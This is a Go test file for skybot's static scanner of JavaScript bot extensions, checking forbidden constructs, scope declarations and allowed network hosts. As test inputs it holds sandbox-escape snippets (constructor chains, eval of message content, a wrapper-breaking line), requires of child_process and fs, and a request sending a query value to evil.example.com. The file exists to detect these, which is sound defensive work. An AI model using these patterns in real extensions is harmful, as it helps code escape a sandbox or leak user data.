package extensions

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/skyext/skybot/sandbox"
)

func handlerMan(scopes ...string) Manifest {
	return Manifest{Name: "scan", Version: "1.0.0", Scopes: scopes}
}

func legacyMan(scopes ...string) Manifest {
	return Manifest{Name: "scan", Version: "1.0.0", Type: TypeCommand, Key: "scan", Scopes: scopes}
}

func withHosts(m Manifest, hosts ...string) Manifest {
	m.Hosts = hosts
	return m
}

func withNetwork(m Manifest, capability string) Manifest {
	m.Network = capability
	return m
}

func lines(ls ...string) string { return strings.Join(ls, "\n") }

func scanErr(line int, msg string) Finding {
	return makeFinding(StageScan, SeverityError, line, "%s", msg)
}

func scanWarn(line int, msg string) Finding {
	return makeFinding(StageScan, SeverityWarning, line, "%s", msg)
}

// Messages the rules give, spelt out once.
const (
	msgEval        = "eval is forbidden: extensions may not run strings as code"
	msgFunction    = "the Function constructor is forbidden: extensions may not run strings as code"
	msgCtorChain   = ".constructor.constructor reaches the Function constructor, which is forbidden"
	msgCtorOfFn    = ".constructor of a function reaches the Function constructor, which is forbidden"
	msgWith        = "with statements are forbidden: they hide which names the code uses"
	msgImport      = "import is not available in skybot: load modules with require('name')"
	msgProto       = "assigning __proto__ is forbidden: it rewires an object's prototype"
	msgComputed    = "require() with a computed module name defeats the scan: call require('name') with a string literal"
	msgEmbeds      = "a message with embeds needs the embed_links scope, which the manifest does not declare"
	msgNoHosts     = "http.request is called, but the manifest lists no @hosts, so skybot would refuse every request"
	msgNoHostsB    = "http.request is called, but the manifest lists no @hosts and has no network capability, so skybot would refuse every request"
	msgUnbalanced  = "the code is refused: the code closes more braces than it opens; a legacy extension body must be balanced"
	msgHostsUnused = "@hosts is declared but no code uses http"
)

func needs(api, scope string) string {
	return api + " needs the " + scope + " scope, which the manifest does not declare"
}

func unused(scope string) string { return "scope " + scope + " is declared but no code uses it" }

func TestScanCode(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		man  Manifest
		code string
		want []Finding
	}{
		// Forbidden constructs.
		{"eval, handler style", handlerMan(), lines(
			"const x = 1;",
			"eval('x + 1');",
			"if (typeof eval === 'function') {}",
		), []Finding{scanErr(2, msgEval)}},
		{"eval, legacy", legacyMan(), lines(
			"globalThis.eval('1');",
			"const e = eval;",
			"this.eval('2');",
			"class C { eval(x) { return x; } run() { return this.eval(1); } }",
		), []Finding{scanErr(1, msgEval), scanErr(2, msgEval), scanErr(3, msgEval)}},
		{"Function, handler style", handlerMan(), lines(
			"const f = new Function('return 1');",
			"Function('x')();",
			"if (f instanceof Function) {}",
			"const s = Function.prototype.toString;",
			"Function.call(null, 'y');",
		), []Finding{scanErr(1, msgFunction), scanErr(2, msgFunction), scanErr(5, msgFunction)}},
		{"Function, legacy", legacyMan(), lines(
			"const a = 1;",
			"const F = global.Function;",
		), []Finding{scanErr(2, msgFunction)}},
		{"constructor chains, handler style", handlerMan(), lines(
			"const s = '';",
			"s.constructor.constructor('return this')();",
			"(async () => {}).constructor('x');",
			"function g() {}",
			"g.constructor('y');",
			"class A { m() { return this.constructor; } }",
		), []Finding{scanErr(2, msgCtorChain), scanErr(3, msgCtorOfFn), scanErr(5, msgCtorOfFn)}},
		{"constructor chains, legacy", legacyMan(), lines(
			"[]['constructor']['constructor']('x')();",
		), []Finding{scanErr(1, msgCtorChain)}},
		{"with, handler style", handlerMan(), lines(
			"with (Math) {",
			"  max(1, 2);",
			"}",
		), []Finding{scanErr(1, msgWith)}},
		{"with, legacy", legacyMan(), lines(
			"const a = 1;",
			"with (Math) { max(a, 2); }",
		), []Finding{scanErr(2, msgWith)}},
		{"dynamic import, handler style", handlerMan("roles_manage"), lines(
			"const a = 1;",
			"const m = import('fs');",
		), []Finding{scanErr(2, msgImport)}},
		{"import statement, handler style", handlerMan(), lines(
			"import fs from 'fs';",
		), []Finding{scanErr(1, msgImport)}},
		{"dynamic import, legacy", legacyMan(), lines(
			"const a = 1;",
			"const m = await import('fs');",
		), []Finding{scanErr(2, msgImport)}},
		{"__proto__, handler style", handlerMan(), lines(
			"const o = {};",
			"o.__proto__ = null;",
			"o['__proto__'] = {};",
			"const d = { __proto__: null };",
		), []Finding{scanErr(2, msgProto), scanErr(3, msgProto)}},
		{"__proto__, legacy", legacyMan(), lines(
			"const o = {};",
			"o.a.__proto__ = Array.prototype;",
		), []Finding{scanErr(2, msgProto)}},
		{"computed require, handler style", handlerMan(), lines(
			"const name = 'roles';",
			"const m = require(name);",
			"const r = require;",
			"const t = require(`roles`);",
		), []Finding{scanWarn(2, msgComputed), scanWarn(3, msgComputed)}},
		{"computed require, legacy", legacyMan(), lines(
			"const m = require('mess' + 'age');",
		), []Finding{scanWarn(1, msgComputed)}},
		{"unknown modules, handler style", handlerMan(), lines(
			"require('fs');",
			"require('message');",
			"require('fs');",
			"require('embed');",
		), []Finding{
			scanErr(1, "require('fs'): skybot has no module named fs"),
			scanErr(2, "require('message'): message is a SkynetBot module, available only to legacy (@type) extensions; handler-style code gets its event's data in the handler's ctx"),
		}},
		{"unknown modules, legacy", legacyMan(), lines(
			"require('sky');",
			"require('child_process');",
			"require('storage');",
			"require('command');",
		), []Finding{
			scanErr(1, "require('sky'): the sky module registers handlers, which only handler-style extensions (without @type) have"),
			scanErr(2, "require('child_process'): skybot has no module named child_process"),
		}},

		// Host APIs against scopes.
		{"module in a variable", handlerMan(), lines(
			"const roles = require('roles');",
			"const sky = require('sky');",
			"sky.on('guildMemberAdd', async (ctx) => {",
			"  await roles.add(ctx.member.id, '42');",
			"});",
		), []Finding{{Severity: SeverityError, Stage: StageScan, Line: 4,
			Message: "line 4: roles.add needs the roles_manage scope, which the manifest does not declare"}}},
		{"require chain, reported once", handlerMan(), lines(
			"require('moderation').ban('1');",
			"require('moderation').ban('2');",
		), []Finding{scanErr(1, needs("moderation.ban", "ban"))}},
		{"destructured and renamed", handlerMan("kick"), lines(
			"const { add, remove: take } = require('roles');",
			"const { kick } = require('moderation');",
			"async function run() {",
			"  await take('1', '2');",
			"  await kick('1');",
			"}",
		), []Finding{scanErr(4, needs("roles.remove", "roles_manage"))}},
		{"aliases and shadowing", handlerMan(), lines(
			"const roles = require('roles');",
			"const r = roles;",
			"function f(roles) { return roles.add('x'); }",
			"r.create({ name: 'x' });",
		), []Finding{scanErr(4, needs("roles.create", "roles_manage"))}},
		{"ctx helpers", handlerMan(), lines(
			"const sky = require('sky');",
			"sky.command({ name: 'a', description: 'b' }, async (ctx) => {",
			"  await ctx.reply('interaction replies need no scope');",
			"});",
			"sky.prefix('p', async ({ reply }) => {",
			"  await reply('a prefix command replies with message.reply');",
			"});",
		), []Finding{scanErr(6, needs("message.reply", "messages_write"))}},
		{"ctx of a named handler", handlerMan(), lines(
			"const sky = require('sky');",
			"async function answer(ctx) { await ctx.reply('x'); }",
			"sky.keyword(['hi'], answer);",
		), []Finding{scanErr(2, needs("message.reply", "messages_write"))}},
		{"legacy modules and their gates", legacyMan(), lines(
			"const message = require('message');",
			"const economy = require('economy');",
			"const member = require('member');",
			"economy.addPoints(message.author.id, 5);",
			"await message.reply('hi ' + member.displayName);",
		), []Finding{
			scanErr(3, "require('member') needs the members_read scope, which the manifest does not declare"),
			scanErr(4, needs("points.addPoints", "economy_manage")),
			scanErr(5, needs("message.reply", "messages_write")),
		}},
		{"legacy extension storage needs no scope", legacyMan(), lines(
			"const { storage } = require('extension');",
			"await storage.write('k', 1);",
		), nil},
		{"unused scopes, .skyext header line", handlerMan("storage", "roles_manage"), lines(
			"// ==SkyExtension==",
			"// @name         scan",
			"// @version      1.0.0",
			"// @scopes       storage, roles_manage",
			"// ==/SkyExtension==",
			"const storage = require('storage');",
			"require('sky').every('1h', async () => { await storage.increment('n'); });",
		), []Finding{scanWarn(4, unused("roles_manage"))}},
		{"unused scopes, package code", legacyMan("kick", "messages_write"), lines(
			"await require('message').reply('x');",
		), []Finding{scanWarn(0, unused("kick"))}},
		{"scopes the scan cannot see used are not reported", handlerMan("roles_manage", "members_read", "embed_links", "messages_global", "messages_write"), lines(
			"const roles = require('roles');",
			"const messages = require('messages');",
			"const sky = require('sky');",
			"helper(roles);",
			"sky.on('guildMemberAdd', (ctx) => ctx.member);",
			"const payload = { embeds: [] };",
			"other.reply('x');",
		), nil},
		{"legacy data modules count as used", legacyMan("guild_read", "members_read", "economy_read", "storage"), lines(
			"const guild = require('guild');",
			"const points = require('points');",
			"const ext = require('extension');",
		), nil},
		{"embeds without embed_links", handlerMan("messages_write"), lines(
			"const messages = require('messages');",
			"async function post(id) {",
			"  await messages.send(id, { embeds: [{ title: 'x' }] });",
			"}",
		), []Finding{scanWarn(3, msgEmbeds)}},
		{"SkynetBot packages never needed embed_links", Manifest{Name: "scan", Version: "1.0.0", Type: TypeCommand, Key: "scan", Scopes: []string{"messages_write"}, Compat: CompatSkynet}, lines(
			"const message = require('message');",
			"await message.reply({ embeds: [require('embed').create({ title: 'x' })] });",
		), nil},

		// Network.
		{"http without hosts, handler style", handlerMan("http_request"), lines(
			"const http = require('http');",
			"async function get() {",
			"  return http.request({ url: 'https://api.example.org/v1' });",
			"}",
		), []Finding{scanErr(3, msgNoHosts)}},
		{"http without hosts, legacy", legacyMan("http_request"), lines(
			"const http = require('http');",
			"await http.request({ url: 'https://api.example.org/v1' });",
		), []Finding{scanErr(2, msgNoHostsB)}},
		{"http with a legacy network capability", withNetwork(legacyMan("http_request"), "network"), lines(
			"const http = require('http');",
			"await http.request({ url: 'https://anything.example/v1' });",
		), nil},
		{"http without the scope", withHosts(handlerMan(), "api.example.org"), lines(
			"const http = require('http');",
			"const get = () => http.request({ url: 'https://api.example.org/' });",
		), []Finding{scanErr(2, needs("http.request", "http_request"))}},
		{"hosts against @hosts", withHosts(handlerMan("http_request"), "api.example.org", "*.cdn.example.net"), lines(
			"const { request } = require('http');",
			"const base = 'https://api.example.org/v1';",
			"const img = 'https://img.cdn.example.net/a.png';",
			"async function get(q) {",
			"  await request({ url: `https://evil.example.com/?q=${q}` });",
			"  await request({ url: `https://${q}.example.org/` });",
			"  await request({ url: `https://api.example.org/${q}` });",
			"  return request({ url: 'https://user@API.Example.org:443/x' });",
			"}",
		), []Finding{scanWarn(5, "the code names the host evil.example.com, which @hosts does not list; http.request to it would be refused")}},
		{"plain http, legacy allowlist", withNetwork(legacyMan("http_request"), "allowlist_only"), lines(
			"const http = require('http');",
			"await http.request({ url: 'http://api.mojang.com/x' });",
		), []Finding{scanWarn(2, "http://api.mojang.com is plain http, which only the network_advanced capability may request; use https")}},
		{"plain http, network_advanced", withNetwork(legacyMan("http_request"), "network_advanced"), lines(
			"const http = require('http');",
			"await http.request({ url: 'http://10.0.0.1:8080/x' });",
		), nil},
		{"URLs without http are only links", handlerMan("messages_write"), lines(
			"const messages = require('messages');",
			"const send = (id) => messages.send(id, 'see https://docs.example/ or http://old.example');",
		), nil},
		{"hosts declared, http unused", withHosts(handlerMan(), "api.example.org"), lines(
			"// ==SkyExtension==",
			"// @name         scan",
			"// @version      1.0.0",
			"// @hosts        api.example.org",
			"// ==/SkyExtension==",
			"const x = 1;",
		), []Finding{scanWarn(4, msgHostsUnused)}},

		// Code the sandbox refuses: one finding.
		{"syntax error, handler style", handlerMan("kick"), lines(
			"const a = 1;",
			"const b = ;",
		), []Finding{scanErr(2, "the code does not parse: Unexpected token ;")}},
		{"syntax error, legacy", legacyMan(), lines(
			"const a = 1;",
			"",
			"if (a {",
		), []Finding{scanErr(3, "the code does not parse: Unexpected token {")}},
		{"legacy body escaping its wrapper", legacyMan(), lines(
			"await x();",
			"}); stolen(); (async () => {",
		), []Finding{scanErr(2, msgUnbalanced)}},
		{"compile error", handlerMan(), lines(
			"let a;",
			"let a;",
		), []Finding{scanErr(2, "the code does not compile: Identifier 'a' has already been declared")}},
		{"nesting refused before parsing", handlerMan(), lines(
			"const ok = 1;",
			"const deep = "+strings.Repeat("[", 300)+strings.Repeat("]", 300)+";",
		), []Finding{scanErr(2, "the code is refused: brackets nest more than 256 deep")}},
		{"legacy lines include the header", legacyMan(), lines(
			"// ==SkyExtension==",
			"// @name         scan",
			"// @version      1.0.0",
			"// @type         command",
			"// @key          scan",
			"// ==/SkyExtension==",
			"const message = require('message');",
			"eval(message.content);",
		), []Finding{scanErr(8, msgEval)}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := ScanCode(tc.man, tc.code)
			if !slices.Equal(got, tc.want) {
				t.Errorf("ScanCode:\n got  %s\n want %s", showFindings(got), showFindings(tc.want))
			}
		})
	}
}

func showFindings(fs []Finding) string {
	if len(fs) == 0 {
		return "(none)"
	}
	var b strings.Builder
	for _, f := range fs {
		b.WriteString("\n   " + f.Severity + " [" + f.Stage + "] " + f.Message)
	}
	return b.String()
}

// The examples and SkynetBot fixtures skybot ships are clean: the scan
// must not refuse any of them.
func TestScanCodeShippedExtensions(t *testing.T) {
	t.Parallel()
	skyext, _ := filepath.Glob("examples/*.skyext")
	skypkg, _ := filepath.Glob("testdata/legacy/*.skypkg")
	skypkg = append(skypkg, "testdata/hello-world-1.0.skypkg")
	if len(skyext) == 0 || len(skypkg) < 2 {
		t.Fatalf("fixtures not found: %v %v", skyext, skypkg)
	}
	type source struct {
		path string
		man  Manifest
		code string
	}
	var sources []source
	for _, p := range skyext {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		man, code, err := ParseSkyext(raw)
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		sources = append(sources, source{p, man, code})
	}
	for _, p := range skypkg {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		pkg, err := ParseSkypkg(raw)
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		sources = append(sources, source{p, pkg.Manifest, pkg.Code})
	}
	for _, src := range sources {
		t.Run(filepath.Base(src.path), func(t *testing.T) {
			t.Parallel()
			for _, f := range ScanCode(src.man, src.code) {
				if f.Severity == SeverityError {
					t.Errorf("false positive: %s", f.Message)
				} else {
					t.Logf("warning: %s", f.Message)
				}
			}
		})
	}
}

// The scan mirrors a few unexported sandbox tables; every API name they
// give must be in sandbox.APIs.
func TestScanMirrorsSandbox(t *testing.T) {
	t.Parallel()
	for style, helpers := range ctxHelpers {
		for method, name := range helpers {
			if _, ok := sandbox.LookupAPI(name); !ok {
				t.Errorf("ctx.%s (%s style) names %s, which is not in sandbox.APIs", method, style, name)
			}
		}
	}
	for alias, module := range legacyModuleAlias {
		if !slices.Contains(sandbox.LegacyModules, alias) || !slices.Contains(sandbox.LegacyModules, module) {
			t.Errorf("legacy alias %s → %s: both must be sandbox.LegacyModules", alias, module)
		}
	}
	for module := range legacySharedModules {
		if len(reachableAPIs(false, module)) == 0 {
			t.Errorf("shared module %s has no part A functions", module)
		}
	}
	for module := range moduleScopes {
		if !slices.Contains(sandbox.LegacyModules, module) {
			t.Errorf("gated module %s is not a legacy module", module)
		}
	}
}

func TestURLHost(t *testing.T) {
	t.Parallel()
	cases := []struct {
		text         string
		partial      bool
		scheme, host string
		ok           bool
	}{
		{"https://api.example.org/v1", false, "https", "api.example.org", true},
		{"HTTPS://API.Example.ORG.", false, "https", "api.example.org", true},
		{"http://user:pw@h.example:8080?q", false, "http", "h.example", true},
		{"https://[::1]:8443/x", false, "https", "::1", true},
		{"https://api.", true, "", "", false},
		{"https://api.example.org", true, "", "", false}, // a template head: the host may go on
		{"https://", false, "", "", false},
		{"https://a..b/", false, "", "", false},
		{"https://end.example then text", false, "https", "end.example", true},
		{"ftp://x.example/", false, "", "", false},
		{"see https://x.example/", false, "", "", false}, // not a URL literal
	}
	for _, tc := range cases {
		scheme, host, ok := urlHost(tc.text, tc.partial)
		if scheme != tc.scheme || host != tc.host || ok != tc.ok {
			t.Errorf("urlHost(%q, %v) = %q, %q, %v; want %q, %q, %v", tc.text, tc.partial, scheme, host, ok, tc.scheme, tc.host, tc.ok)
		}
	}
}
